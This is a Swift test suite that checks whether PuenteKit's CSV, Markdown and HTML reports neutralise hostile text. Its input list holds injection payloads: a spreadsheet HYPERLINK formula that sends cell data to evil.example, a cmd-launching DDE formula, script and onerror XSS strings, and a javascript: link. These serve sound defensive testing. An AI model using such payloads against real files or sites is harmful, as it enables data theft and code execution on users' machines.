import Foundation
import PuenteKit
import PuenteTestSupport
import Testing

/// Reports of a store that holds hostile text are safe to open: no formula runs in a
/// spreadsheet, no tag, handler or link forms in Markdown, and the HTML stays well-formed XML
/// with no script, handler or external URL. Python's `csv` and `xml.etree` read them, not Puente.
@Suite(.timeLimit(.minutes(20))) struct ReportSafetyTests {
    let puente = PuenteProcess()

    static let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)", "\tTabbed", "\rReturn",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[click](javascript:alert(1))", "![pixel](http://evil.example/p.png)",
        "<a href=\"http://evil.example\">x</a>", "Bad\u{1}XML\u{B}chars\u{FFFE}here\u{FFFF}", "| a | b |", "# heading", "1. item",
        "<http://evil.example>", "`code`", "**bold**",
    ]

    /// Runs a Python program on `input` and returns what it printed (exit status 0 required).
    func python(_ program: String, _ input: String) throws -> String {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        process.arguments = ["python3", "-c", program]
        let stdin = Pipe()
        let stdout = Pipe()
        let stderr = Pipe()
        process.standardInput = stdin
        process.standardOutput = stdout
        process.standardError = stderr
        try process.run()
        stdin.fileHandleForWriting.write(Data(input.utf8))
        try stdin.fileHandleForWriting.close()
        let output = stdout.fileHandleForReading.readDataToEndOfFile()
        let errors = stderr.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        #expect(process.terminationStatus == 0, "\(String(decoding: errors, as: UTF8.self))")
        return String(decoding: output, as: UTF8.self)
    }

    @Test func reportsOfAHostileStoreAreSafeToOpen() throws {
        let folder = try TemporaryFolder()
        let path = folder.sub("store")
        #expect(try puente.run(["--store", path, "init", "--delegation", "us", "--name", "Desk"]).status == 0)
        let store = try Replica.open(folder: path)
        try store.batchUnchecked { batch in
            for (index, text) in Self.hostile.enumerated() {
                let commitment = try batch.addCommitment(CommitmentDraft(owner: .us, titleEN: text, summaryEN: text, pillar: .prevent,
                                                                         lead: text, agencies: [text]))
                _ = try batch.addNote(to: commitment, text: text)
                _ = try batch.set(commitment, field: "assessment.us", value: ["rating": "at-risk", "why": .string(text)])
                if index == 0 {
                    let indicator = try batch.addIndicator(to: commitment, IndicatorDraft(nameEN: text, kind: .outcome, unit: text,
                                                                                          baseline: "-5", target: "10",
                                                                                          direction: .increase))
                    _ = try batch.recordReading(indicator, date: "2026-10-02", value: "-3", source: text)
                }
            }
        }
        for language in ["en", "es"] {
            // CSV: no cell a spreadsheet would run; numbers stay numbers.
            let csv = try puente.run(["--store", path, "--lang", language, "report", "--format", "csv"])
            #expect(csv.status == 0, "\(csv.stderr)")
            let risky = try python("""
                import csv, io, re, sys
                rows = list(csv.reader(io.StringIO(sys.stdin.buffer.read().decode('utf-8'), newline='')))
                assert len(rows) == \(Self.hostile.count + 1), len(rows)
                for row in rows:
                    for cell in row:
                        if cell[:1] in ('=', '+', '-', '@', '\\t', '\\r') and not re.fullmatch(r'-?[0-9]+(\\.[0-9]+)?', cell):
                            print(repr(cell))
                """, csv.stdout)
            #expect(risky.isEmpty, "\(risky)")
            #expect(csv.stdout.contains("'=HYPERLINK("))

            // Markdown: no HTML tag, and no link, image or code span formed from a value.
            let markdown = try puente.run(["--store", path, "--lang", language, "report", "--format", "markdown"])
            #expect(markdown.status == 0, "\(markdown.stderr)")
            let formed = try python("""
                import re, sys
                text = sys.stdin.read()
                for pattern in [r'<[A-Za-z/!]', r'(?<!\\\\)\\]\\(', r'(?<!\\\\)!\\[', r'(?<!\\\\)`code']:
                    for match in re.finditer(pattern, text):
                        print(pattern, repr(text[max(0, match.start() - 20):match.end() + 20]))
                """, markdown.stdout)
            #expect(formed.isEmpty, "\(formed)")
            #expect(!markdown.stdout.contains("\u{1B}") && !markdown.stdout.contains("\u{1}"))

            // HTML: well-formed XML, with no script, no event handler and no external URL.
            let html = try puente.run(["--store", path, "--lang", language, "report", "--format", "html"])
            #expect(html.status == 0, "\(html.stderr)")
            let unsafe = try python("""
                import sys, xml.etree.ElementTree as ET
                root = ET.fromstring(sys.stdin.buffer.read())
                for element in root.iter():
                    tag = element.tag.split('}')[-1].lower()
                    if tag in ('script', 'iframe', 'object', 'embed', 'img', 'a', 'link'):
                        print('element', tag)
                    for name, value in element.attrib.items():
                        if name.lower().startswith('on') or 'javascript:' in value.lower() or '//' in value:
                            print('attribute', name, value)
                """, html.stdout)
            #expect(unsafe.isEmpty, "\(unsafe)")
            #expect(html.stdout.contains("&lt;script&gt;"))
        }
    }
}
